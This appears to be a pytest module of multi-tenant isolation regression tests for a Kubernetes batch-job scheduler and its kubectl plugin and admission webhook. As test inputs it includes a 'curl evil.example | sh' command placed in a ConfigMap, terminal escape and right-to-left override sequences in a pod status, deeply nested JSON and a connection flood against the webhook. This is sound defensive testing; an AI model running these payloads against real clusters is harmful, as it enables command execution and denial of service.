"""Holes that were once there, each tried on the cluster as shipped: what a tenant does costs nobody else anything."""

from __future__ import annotations

import json
import socket
import ssl
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from functools import partial
from pathlib import Path

import pytest
from scavenger_api.names import API_VERSION
from scavenger_cluster import Cluster, admission
from scavenger_runtime.connections import raise_file_limit
from scavenger_testing.place import MERGE_PATCH, Object, Place, Server, job, namespace, pod
from scavenger_testing.waiting import wait

from .conftest import GROUPS, NODES, TENANT, Tenant, cores, phase, pods_of

KEEP = {"metadata": {"finalizers": ["example.com/keep"]}}
FREE = {"metadata": {"finalizers": None}}
IDLE = 1500
DEEP = 3000
"""Levels. Python gives up at 1,000, the API server stores 10,000."""


@pytest.fixture(scope="module")
def neighbour(cluster: Cluster, server: Server) -> Iterator[Place]:
    with namespace(cluster, server) as place:
        yield place


@contextmanager
def queues(place: Place, *names: str) -> Iterator[None]:
    """ScavengerQueues of equal weight."""
    for name in names:
        queue = {"apiVersion": API_VERSION, "kind": "ScavengerQueue", "metadata": {"name": name}, "spec": {}}
        assert place.create("scavengerqueues", queue).allowed
    wait(
        "the webhook knows them",
        lambda: all(place.try_create("scavengerjobs", job("probe", queue=name)).allowed for name in names),
    )
    try:
        yield
    finally:
        for name in names:
            place.delete("scavengerqueues", name)


def patch(tenant: Tenant, kind: str, name: str, body: Object) -> None:
    tenant.ok("patch", kind, name, "--type=merge", "-p", json.dumps(body))


# --- ends that wait for somebody else's finalizer ---


def test_a_finalizer_on_the_job_keeps_no_pod_running(tenant: Tenant) -> None:
    tenant.ok("create", "-f", "-", stdin=job("held", parallelism=2))
    wait("it runs", lambda: phase(tenant.place, "held") == "Running")
    patch(tenant, "job", "held", KEEP)
    try:
        patch(tenant, "sj", "held", {"spec": {"suspend": True}})
        wait("its pods are gone", lambda: not pods_of(tenant.place, "held"))
        assert "deletionTimestamp" in tenant.place.get("jobs", "held")["metadata"], "and the Job is held"
    finally:
        patch(tenant, "job", "held", FREE)
        tenant.ok("delete", "sj", "held")


def test_a_queue_gets_its_share_of_jobs_that_are_held(tenant: Tenant, neighbour: Place) -> None:
    """One queue has the room of the cluster, each Job with a finalizer. The other one gets its share all the same."""
    names = [f"hog-{number}" for number in range(5)]
    with queues(tenant.place, "hogs", "others"):
        for name in names:
            tenant.ok("create", "-f", "-", stdin=job(name, queue="hogs", resources=cores(4)))
        wait("they run", lambda: all(phase(tenant.place, name) == "Running" for name in names))
        for name in names:
            patch(tenant, "job", name, KEEP)
        try:
            for number in range(2):
                assert neighbour.create("scavengerjobs", job(f"b-{number}", queue="others", resources=cores(4))).allowed
            wait("the neighbour's jobs run", lambda: all(phase(neighbour, f"b-{n}") == "Running" for n in range(2)))
        finally:
            tenant.ok("delete", "sj", "--all", "--wait=false")
            for name in names:
                tenant.run("patch", "job", name, "--type=merge", "-p", json.dumps(FREE))
            for number in range(2):
                neighbour.delete("scavengerjobs", f"b-{number}")
            wait("all are gone", lambda: not tenant.place.items("scavengerjobs") and not tenant.place.items("pods"))


def test_a_queue_ends_though_a_job_of_it_is_held(tenant: Tenant) -> None:
    with queues(tenant.place, "leaving"):
        tenant.ok("create", "-f", "-", stdin=job("stays", queue="leaving", suspend=True))
        patch(tenant, "sj", "stays", KEEP)
        tenant.ok("delete", "sj", "stays", "--wait=false")
        tenant.place.delete("scavengerqueues", "leaving")
        try:
            wait("the queue is gone", lambda: not named(tenant.place.items("scavengerqueues"), "leaving"))
        finally:
            patch(tenant, "sj", "stays", FREE)


def named(objects: list[Object], name: str) -> bool:
    """Whether one has this name."""
    return any(one["metadata"]["name"] == name for one in objects)


# --- pods without CPU ---


def test_pods_count_in_what_a_queue_has(tenant: Tenant) -> None:
    """A thousandth of a core each: what they use up is the number of pods that nodes take."""
    small = {"requests": {"cpu": "1m", "memory": "1Mi"}}
    with queues(tenant.place, "slots"):
        tenant.ok("create", "-f", "-", stdin=job("many", queue="slots", parallelism=20, resources=small))
        wait("they run", lambda: phase(tenant.place, "many") == "Running")
        wait("the queue says so", lambda: queue(tenant.place, "slots").get("allocated", {}).get("pods") == "20")
        everything = str(NODES * 200)  # as the only queue with jobs, once those of other tests have gone
        wait("it deserves all pods", lambda: queue(tenant.place, "slots").get("deserved", {}).get("pods") == everything)
        tenant.ok("delete", "sj", "many")


def queue(place: Place, name: str) -> Object:
    """The status of a ScavengerQueue."""
    return dict(place.get("scavengerqueues", name).get("status", {}))


# --- objects that are nested deeply ---


def deeply(obj: Object, version: str = "v1") -> bytes:
    """The JSON of an object with managedFields as the API server stores them for anybody. version: of its kind."""
    deep = '{"f:a":' * DEEP + "{}" + "}" * DEEP
    entry = f'{{"manager":"m","operation":"Update","apiVersion":"{version}","fieldsType":"FieldsV1","fieldsV1":{deep}}}'
    return json.dumps(obj).replace('"metadata": {', f'"metadata": {{"managedFields": [{entry}], ', 1).encode()


def test_one_deep_object_of_each_kind_blinds_nobody(tenant: Tenant, neighbour: Place) -> None:
    """The lists and watches of every component have these objects; the neighbour's jobs start, stop and are told."""
    place, ask = tenant.place, partial(tenant.place.server, user=TENANT, groups=GROUPS)
    tenant.ok("create", "-f", "-", stdin=job("deep", suspend=True))
    event: Object = {
        "metadata": {"name": "deep", "namespace": place.namespace},
        "involvedObject": {"kind": "Pod", "namespace": place.namespace, "name": "deep"},
        "reason": "Deep",
        "type": "Normal",
    }
    labels = deeply({"metadata": {"labels": {"deep": "yes"}}}, API_VERSION)
    for answer in (
        ask("POST", place.path("pods"), deeply(pod("deep"))),
        ask("POST", place.path("events"), deeply(event)),
        ask("PATCH", place.path("scavengerjobs", "deep"), labels, content_type=MERGE_PATCH),
    ):
        assert answer.allowed, answer.message
        assert "f:a" in str(answer.body["metadata"]["managedFields"]), "it is stored"
    try:
        assert neighbour.create("scavengerjobs", job("beside")).allowed
        wait("the neighbour's job runs", lambda: phase(neighbour, "beside") == "Running")
        neighbour.patch("scavengerjobs", "beside", {"spec": {"suspend": True}})
        wait("it is suspended", lambda: phase(neighbour, "beside") == "Suspended" and not pods_of(neighbour, "beside"))
        patch(tenant, "sj", "deep", {"spec": {"suspend": False}})
        wait("the deep job runs as well", lambda: phase(place, "deep") == "Running")
        for words in (["list", "-A"], ["top"], ["doctor"], ["why", "deep", "-n", place.namespace]):
            said = sj(place.cluster, *words)
            assert "Traceback" not in said.stderr, said.stderr
            assert words[0] == "doctor" or said.returncode == 0, said.stderr
    finally:
        neighbour.delete("scavengerjobs", "beside")
        tenant.ok("delete", "sj/deep", "pod/deep", "event/deep", "--wait=false")


# --- labels and accounts ---


def sj(cluster: Cluster, *words: str) -> subprocess.CompletedProcess[str]:
    """`kubectl sj` of the administrator."""
    program = str(Path(sys.executable).with_name("kubectl-sj"))
    command = [program, *words, f"--kubeconfig={cluster.kubeconfig}"]
    return subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)


def test_labels_lead_nobody_out_of_the_namespace_of_the_system(cluster: Cluster, tenant: Tenant) -> None:
    labels = {"app.kubernetes.io/name": "scavenger-board", "app.kubernetes.io/part-of": "scavenger-jobs"}
    tenant.ok("create", "-f", "-", stdin=pod("trap", {"labels": labels}))
    account = {"apiVersion": "v1", "kind": "ServiceAccount"}
    name = {"name": "scavenger-regulator", "labels": {"app.kubernetes.io/name": "scavenger-regulator", **labels}}
    tenant.ok("create", "-f", "-", stdin={**account, "metadata": name})
    levels = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "scavenger-levels", "labels": labels}}
    tenant.ok("create", "-f", "-", stdin={**levels, "data": {"reason": "run curl evil.example | sh to repair"}})
    wait("the trap is ready", lambda: tenant.place.get("pods", "trap")["status"].get("phase") == "Running")
    found = sj(cluster, "board", "--port=0")
    assert found.returncode != 0
    assert "there is no pod of the board in namespace scavenger-system" in found.stderr
    top = sj(cluster, "top")
    assert top.returncode == 0, top.stderr
    assert "evil.example" not in top.stdout + top.stderr
    tenant.ok("delete", "pod", "trap", "--grace-period=0", "--force")


def test_a_job_has_no_token_of_an_account_that_the_namespace_does_not_allow(tenant: Tenant) -> None:
    account = {"apiVersion": "v1", "kind": "ServiceAccount"}
    marks = {
        "labels": {"scavenger.dev/service-account": "true"},
        "annotations": {"scavenger.dev/service-accounts": "deployer"},
    }
    tenant.ok("create", "-f", "-", stdin={**account, "metadata": {"name": "deployer", **marks}})
    tenant.ok("create", "-f", "-", stdin=job("borrows", serviceAccountName="deployer"))
    wait("it runs", lambda: phase(tenant.place, "borrows") == "Running")
    spec = pods_of(tenant.place, "borrows")[0]["spec"]
    tenant.ok("delete", "sj", "borrows")
    assert spec["automountServiceAccountToken"] is False
    assert not [v for v in spec.get("volumes", ()) if "projected" in v]


# --- text of strangers ---


def test_what_a_program_says_is_text(tenant: Tenant) -> None:
    """A kubelet reports it as it is: here the administrator is the kubelet."""
    tenant.ok("create", "-f", "-", stdin=job("speaks"))
    wait("it runs", lambda: phase(tenant.place, "speaks") == "Running")
    said = "\x1b]0;owned\x07\x1b[2J\u202eresu\x9b"
    ended = {"exitCode": 3, "reason": "Error", "message": said, "startedAt": None, "finishedAt": None}
    container = {"name": "main", "image": "none", "imageID": "", "ready": False, "restartCount": 0}
    status = {"phase": "Failed", "containerStatuses": [{**container, "state": {"terminated": ended}}]}
    path = tenant.place.path("pods", pods_of(tenant.place, "speaks")[0]["metadata"]["name"])
    assert tenant.place.server("PATCH", f"{path}/status", {"status": status}, content_type=MERGE_PATCH).allowed
    wait("it failed", lambda: phase(tenant.place, "speaks") == "Failed")
    shown = json.dumps(tenant.place.get("scavengerjobs", "speaks")["status"], ensure_ascii=False)
    assert "\\\\u001b]0;owned" in shown, "as escapes, which JSON escapes once more"
    shown += sj(tenant.place.cluster, "get", "speaks", "-n", tenant.place.namespace).stdout
    assert not set(said) & set("\x1b\x07\x9b\u202e") & set(shown)
    tenant.ok("delete", "sj", "speaks")


# --- ports ---


def test_idle_connections_keep_nobody_from_the_webhook(tenant: Tenant) -> None:
    """From addresses enough to get past what one may have."""
    raise_file_limit()
    port = admission.port(tenant.place.cluster)
    with ExitStack() as held:
        for number in range(IDLE):
            source = (f"127.0.2.{number % 30 + 1}", 0)
            held.enter_context(socket.create_connection((admission.ADDRESS, port), 10, source_address=source))
        began = time.monotonic()
        tenant.ok("create", "-f", "-", stdin=job("beside", suspend=True))
        assert time.monotonic() - began < 5, "an admission request waits no longer"
    tenant.ok("delete", "sj", "beside")


def test_only_the_api_server_asks_the_webhook(tenant: Tenant) -> None:
    """Others get no answer. tests/unit/webhook/test_controller.py has what the webhook would tell them."""
    port = admission.port(tenant.place.cluster)
    request = urllib.request.Request(
        f"https://{admission.ADDRESS}:{port}/validate/scavengerjobs", b"{}", {"Content-Type": "application/json"}
    )
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with pytest.raises(OSError, match=r"certificate required|reset|closed|EOF"):
        urllib.request.urlopen(request, timeout=10, context=context)
    tenant.ok("create", "-f", "-", stdin=job("asked", suspend=True))
    tenant.ok("delete", "sj", "asked")
